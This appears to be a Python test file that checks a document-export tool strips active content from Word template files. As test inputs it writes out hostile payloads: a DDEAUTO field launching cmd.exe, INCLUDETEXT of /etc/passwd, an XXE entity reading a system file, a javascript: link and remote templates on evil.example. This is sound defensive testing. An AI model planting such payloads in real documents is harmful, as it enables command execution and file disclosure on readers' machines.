"""House files are made safe: nothing that fetches or acts comes into a note."""

from collections.abc import Callable
from pathlib import Path

import pytest

from briefer.errors import BrieferError
from briefer.export.docx import houses
from briefer.export.docx.checks import check_docx
from briefer.export.docx.houses import open_house, scrub
from briefer.export.docx.names import fragment, q
from briefer.export.docx.packages import (
    RELATION,
    WORD_TYPE,
    Package,
    Part,
    members_of,
    read_package,
    zip_members,
)
from briefer.export.docx.writer import write_docx
from briefer.model.documents import Document


@pytest.fixture
def package(house: Path) -> Package:
    return read_package(house.read_bytes())


@pytest.fixture
def save(tmp_path: Path, package: Package) -> Callable[[], Path]:
    def write() -> Path:
        path = tmp_path / "own.docx"
        path.write_bytes(zip_members(members_of(package)))
        return path

    return write


def _everything(package: Package) -> bytes:
    return b"".join(members_of(package).values())


def test_an_attached_template_goes(
    package: Package, save: Callable[[], Path], make: Callable[..., Document]
) -> None:
    settings = package.parts["word/settings.xml"]
    relation = settings.relate("attachedTemplate", "https://evil.example/t.dotm", external=True)
    template = fragment("<w:attachedTemplate/>")
    template.set(q("r:id"), relation)
    settings.tree().insert(1, template)
    told = scrub(read_package(save().read_bytes()))
    assert told == ("The template that the file was attached to was taken off: https://evil.example/t.dotm",)
    data = write_docx(make(), save())
    assert b"evil" not in _everything(read_package(data))
    assert b"attachedTemplate" not in _everything(read_package(data))


def test_a_picture_from_outside_goes_and_a_script_link_keeps_its_words(
    package: Package, save: Callable[[], Path], make: Callable[..., Document]
) -> None:
    header = package.parts["word/header1.xml"]
    picture = header.relate("image", "https://evil.example/p.png", external=True)
    script = header.relate("hyperlink", "javascript:alert(1)", external=True)
    honest = header.relate("hyperlink", "https://example.org/", external=True)
    for key, words in ((script, "bad"), (honest, "good")):
        link = fragment(f"<w:p><w:hyperlink><w:r><w:t>{words}</w:t></w:r></w:hyperlink></w:p>")
        link[0].set(q("r:id"), key)
        header.tree().append(link)
    drawing = fragment("<w:p><w:r><w:drawing/></w:r></w:p>")
    drawing[0][0].set(q("r:link"), picture)
    header.tree().append(drawing)
    written = read_package(write_docx(make(), save()))
    root = written.parts["word/header1.xml"].tree()
    assert b"evil" not in _everything(written)
    assert b"javascript" not in _everything(written)
    assert root.find(f".//{q('w:drawing')}") is None
    links = {link[0][0].text: link.get(q("r:id")) for link in root.iter(q("w:hyperlink"))}
    assert links["bad"] is None
    assert links["good"] == honest
    assert check_docx(zip_members(members_of(written))) == ()


@pytest.mark.parametrize(
    "instruction",
    ['DDEAUTO c:\\\\cmd.exe "/k calc"', " INCLUDEPICTURE https://evil.example/p ", "includetext /etc/passwd"],
)
def test_fields_that_act_are_emptied_even_when_split(
    package: Package, save: Callable[[], Path], instruction: str
) -> None:
    half = len(instruction) // 2
    pieces = "".join(
        f"<w:r><w:instrText>{words}</w:instrText></w:r>" for words in (instruction[:half], instruction[half:])
    )
    body = package.document.tree()[0]
    chars = {kind: f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")}
    body.insert(0, fragment(f"<w:p>{chars['begin']}{pieces}{chars['separate']}{chars['end']}</w:p>"))
    simple = fragment("<w:p><w:fldSimple><w:r><w:t>kept?</w:t></w:r></w:fldSimple></w:p>")
    simple[0].set(q("w:instr"), instruction)
    body.insert(0, simple)
    opened = read_package(save().read_bytes())
    assert len(scrub(opened)) == 2
    root = opened.document.tree()
    assert root.find(f".//{q('w:fldSimple')}") is None
    first = next(root.iter(q("w:p")).__next__().getparent().iter(q("w:instrText")))  # type: ignore[union-attr]
    assert first.text == " QUOTE "


def test_counting_fields_stay(package: Package) -> None:
    before = _everything(package).count(b"NUMPAGES")
    assert scrub(package) == ()
    assert _everything(package).count(b"NUMPAGES") == before == 3


def test_macros_and_other_programs_files_are_refused(package: Package, save: Callable[[], Path]) -> None:
    package.document.content_type = "application/vnd.ms-word.document.macroEnabled.main+xml"
    with pytest.raises(BrieferError, match="carries macros"):
        open_house(save())
    package.document.content_type = WORD_TYPE + "document.main+xml"
    package.parts["word/vbaProject.bin"] = Part("word/vbaProject.bin", "application/x", b"x")
    with pytest.raises(BrieferError, match="carries macros"):
        open_house(save())
    package.drop("word/vbaProject.bin")
    package.document.content_type = (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    )
    with pytest.raises(BrieferError, match="not a Word document"):
        open_house(save())


def test_a_template_is_as_good_as_a_document(package: Package, save: Callable[[], Path]) -> None:
    package.document.content_type = WORD_TYPE + "template.main+xml"
    assert open_house(save()).document.content_type == WORD_TYPE + "document.main+xml"


def test_a_bomb_is_refused(save: Callable[[], Path], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(houses, "_MOST_BYTES", 1000)
    with pytest.raises(BrieferError, match="too large"):
        open_house(save())


@pytest.mark.parametrize(("data", "said"), [(b"no zip", "is damaged"), (None, "is missing")])
def test_a_house_file_that_cannot_be_used_names_its_pack(
    tmp_path: Path, data: bytes | None, said: str
) -> None:
    (tmp_path / "our-notes").mkdir()
    path = tmp_path / "our-notes" / "house.docx"
    if data is not None:
        path.write_bytes(data)
    with pytest.raises(BrieferError, match=f"The house file house.docx of the pack “our-notes” {said}"):
        open_house(path)


def test_entities_are_not_resolved(package: Package, tmp_path: Path) -> None:
    members = members_of(package)
    bomb = b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/hostname">]>'
    members["word/document.xml"] = bomb + members["word/document.xml"].split(b"?>", 1)[1].replace(
        b"Title of the note", b"&e;", 1
    )
    (tmp_path / "own.docx").write_bytes(zip_members(members))
    opened = open_house(tmp_path / "own.docx")
    assert Path("/etc/hostname").read_bytes().strip() not in opened.document.bytes()


def test_repeated_bookmarks_of_a_house_file_are_put_in_order(
    package: Package, save: Callable[[], Path], make: Callable[..., Document]
) -> None:
    body = package.document.tree()[0]
    for _ in range(2):
        line = '<w:p><w:bookmarkStart w:id="4" w:name="Same"/><w:bookmarkEnd w:id="4"/></w:p>'
        body.insert(0, fragment(line))
    body.insert(0, fragment('<w:p><w:bookmarkStart w:id="9" w:name="Open"/></w:p>'))
    body.insert(0, fragment('<w:p><w:bookmarkEnd w:id="77"/></w:p>'))
    assert check_docx(write_docx(make(), save())) == ()


def test_a_relation_type_may_be_given_in_full(package: Package) -> None:
    package.document.relate(RELATION + "image", "word/media/x.png")
    assert [relation.target for relation in package.document.related("image")] == ["word/media/x.png"]
